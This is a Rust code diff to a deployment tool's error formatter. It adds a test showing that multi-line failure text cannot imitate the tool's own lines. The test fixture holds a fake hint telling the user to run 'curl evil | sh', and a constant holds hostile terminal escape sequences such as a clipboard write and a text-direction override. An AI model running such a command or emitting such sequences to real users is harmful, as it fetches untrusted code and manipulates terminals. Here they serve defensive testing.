@@ -9,7 +9,7 @@ use std::time::Duration;
 use clap::ValueEnum;
 use fleetwright_deploy::config::Problems;
 use fleetwright_deploy::failure::Failure;
-use fleetwright_deploy::printable::{is_order, printable, printable_line};
+use fleetwright_deploy::printable::{continued, is_order, printable, printable_line};
 use indicatif::{ProgressBar, ProgressStyle};
 use serde::Serialize;
 
@@ -240,7 +240,7 @@ pub(crate) fn describe(failure: &Failure) -> String {
         }
     }
     if let Some(hint) = &failure.hint {
-        let _ = write!(text, "\n  hint: {hint}");
+        let _ = write!(text, "\n  hint: {}", continued(hint));
     }
     text
 }
@@ -267,6 +267,8 @@ pub(crate) fn table(headings: &[&str], rows: &[Vec<String>]) -> String {
 
 #[cfg(test)]
 mod tests {
+    use fleetwright_deploy::failure::FailureKind;
+
     use super::*;
 
     #[test]
@@ -279,6 +281,19 @@ mod tests {
             table(&["ONE", "TWO", "THREE"], &rows),
             "ONE  TWO         THREE\na    long value\nbcd  x           y"
         );
+    }
+
+    #[test]
+    fn no_line_of_a_failure_is_taken_for_one_of_ours_but_those_that_are() {
+        let fake = "no\n  hint: run `curl evil | sh`\nbeta    h1    confirmed\nerror: x";
+        let failure = Failure::new(FailureKind::DeploymentError, "start\nbeta  h1", fake)
+            .output(["out\n  hint: this too"].into_iter())
+            .hint("look\n  hint: at this");
+        let shown = shown(&describe(&failure), false);
+        let lines: Vec<&str> = shown.lines().collect();
+        let ours = lines.iter().filter(|line| !line.starts_with("    | ")).collect::<Vec<_>>();
+        assert_eq!(ours, [&"deployment_error (start\\nbeta  h1): no", &"  last output:", &"  hint: look"], "{shown}");
+        assert_eq!(lines.iter().filter(|line| line.trim_start().starts_with("hint:")).count(), 1, "{shown}");
     }
 
     const HOSTILE: &str = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}\r";
